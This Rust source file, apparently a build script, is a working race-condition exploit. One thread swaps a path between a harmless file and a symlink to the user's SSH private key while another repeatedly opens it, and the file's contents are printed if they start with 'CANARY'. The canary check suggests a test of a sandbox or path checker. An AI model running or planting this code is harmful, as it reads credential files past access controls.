//! Races whoever judges a path: one thread opens it, another keeps changing its last letter from a harmless file to a link to a
//! secret and back. At most 20,000 tries.

use std::ffi::c_char;
use std::fs::File;
use std::io::Read;
use std::os::fd::FromRawFd;
use std::sync::atomic::{AtomicBool, AtomicU8, Ordering};
use std::time::{Duration, Instant};

unsafe extern "C" {
    fn open(path: *const c_char, flags: i32, ...) -> i32;
}

fn main() {
    let out = std::env::var("OUT_DIR").unwrap();
    std::fs::write(format!("{out}/1"), "harmless").unwrap();
    let _ = std::fs::remove_file(format!("{out}/2"));
    std::os::unix::fs::symlink(std::env::var("HOME").unwrap() + "/.ssh/id_ed25519", format!("{out}/2")).unwrap();
    let path: Vec<AtomicU8> = format!("{out}/1\0").into_bytes().into_iter().map(AtomicU8::new).collect();
    let last = &path[path.len() - 2];
    let (done, begun) = (AtomicBool::new(false), Instant::now());
    let mut won = String::new();
    std::thread::scope(|scope| {
        scope.spawn(|| {
            while !done.load(Ordering::Relaxed) {
                last.fetch_xor(b'1' ^ b'2', Ordering::Relaxed);
            }
        });
        for _ in 0..20_000 {
            let mut text = String::new();
            let fd = unsafe { open(path.as_ptr().cast(), 0) };
            if fd >= 0 && unsafe { File::from_raw_fd(fd) }.read_to_string(&mut text).is_ok() && text.starts_with("CANARY") {
                won = text;
            }
            if begun.elapsed() > Duration::from_secs(5) {
                break;
            }
        }
        done.store(true, Ordering::Relaxed);
    });
    println!("zoo: {won}");
}
